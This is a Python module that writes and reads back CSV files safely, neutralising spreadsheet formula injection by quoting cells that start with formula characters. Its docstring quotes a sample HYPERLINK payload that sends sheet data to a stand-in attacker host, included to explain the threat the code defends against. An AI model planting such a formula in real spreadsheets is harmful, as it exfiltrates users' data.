"""CSV as spreadsheet software reads it: the one writer of every CSV the project produces,
and the reading back of what it wrote.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
Excel and LibreOffice Calc (OWASP "CSV injection"): a record titled
`=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")` would send the sheet's data away. The
writer prefixes such a cell with a single quote, which spreadsheets show as text. The quote
is added to a cell that already starts with quotes before such a character too, so that
`restore` can take exactly one off and every value comes back as it was written.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

FORMULA_STARTS = frozenset("=+-@\t\r")
QUOTE = "'"


def neutralise(value: object) -> str:
    """The cell as written: a would-be formula gets a leading quote."""
    text = "" if value is None else str(value)
    if text.lstrip(QUOTE)[:1] in FORMULA_STARTS and text.lstrip(QUOTE):
        return QUOTE + text
    return text


def restore(cell: str) -> str:
    """The value `neutralise` was given: the quote it added comes off, nothing else."""
    if cell.startswith(QUOTE) and cell.lstrip(QUOTE)[:1] in FORMULA_STARTS and cell.lstrip(QUOTE):
        return cell[1:]
    return cell


class SafeWriter:
    """csv.writer whose every cell goes through `neutralise`."""

    def __init__(self, stream: TextIO, *, delimiter: str = ";", lineterminator: str = "\r\n"):
        self._writer = csv.writer(
            stream, delimiter=delimiter, lineterminator=lineterminator, quoting=csv.QUOTE_MINIMAL
        )

    def writerow(self, cells: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(c) for c in cells])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for cells in rows:
            self.writerow(cells)


def csv_text(
    header: Sequence[str],
    rows: Iterable[Iterable[Any]],
    *,
    delimiter: str = ";",
    lineterminator: str = "\r\n",
) -> str:
    buffer = io.StringIO(newline="")
    writer = SafeWriter(buffer, delimiter=delimiter, lineterminator=lineterminator)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def csv_bytes(
    header: Sequence[str],
    rows: Iterable[Iterable[Any]],
    *,
    delimiter: str = ";",
    bom: bool = True,
) -> bytes:
    """UTF-8, CRLF lines; with a BOM by default, so that Excel reads the accents right."""
    text = csv_text(header, rows, delimiter=delimiter)
    return ("\ufeff" if bom else "").encode("utf-8") + text.encode("utf-8")
